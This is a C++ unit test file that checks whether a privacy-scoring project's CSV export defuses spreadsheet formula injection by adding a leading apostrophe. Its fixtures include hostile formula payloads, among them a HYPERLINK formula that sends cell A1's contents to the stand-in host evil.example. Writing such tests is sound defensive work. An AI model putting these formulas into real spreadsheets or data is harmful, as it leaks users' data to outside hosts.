// The open-data CSV opened in a spreadsheet: no cell runs as a formula.
#include <gtest/gtest.h>

#include "publish/open_data.h"
#include "publish/test_fixture.h"

namespace privascore::publish {
namespace {

using testing::scores;

TEST(SpreadsheetSafe, CellsThatWouldRunAsFormulasGetALeadingApostrophe) {
  for (const char* formula : {"=HYPERLINK(\"https://evil.example\",\"x\")", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"})
    EXPECT_EQ(spreadsheet_safe(formula), std::string("'") + formula) << formula;
  for (const char* plain : {"", "Zoom", "Jitsi Meet", "a=b", "https://example.org/x?a=1", "'quoted"})
    EXPECT_EQ(spreadsheet_safe(plain), plain) << plain;
}

TEST(EditionCsv, AServiceNamedLikeAFormulaIsWrittenAsText) {
  EditionScore score = scores("video-conferencing");
  ASSERT_FALSE(score.services.empty());
  Assessment hostile = *score.services[0].assessment;
  hostile.name = "=HYPERLINK(\"https://evil.example/?\"&A1,\"Zoom\")";
  hostile.id = "-id";
  score.services[0].assessment = &hostile;
  const std::string csv = edition_csv(score);
  EXPECT_EQ(csv.find(",=HYPERLINK"), std::string::npos) << csv.substr(0, 400);
  EXPECT_EQ(csv.find(",\"=HYPERLINK"), std::string::npos);
  EXPECT_EQ(csv.find(",-id,"), std::string::npos);
  EXPECT_NE(csv.find(",'-id,\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"Zoom\"\")\","), std::string::npos)
      << csv.substr(0, 600);
}

}  // namespace
}  // namespace privascore::publish
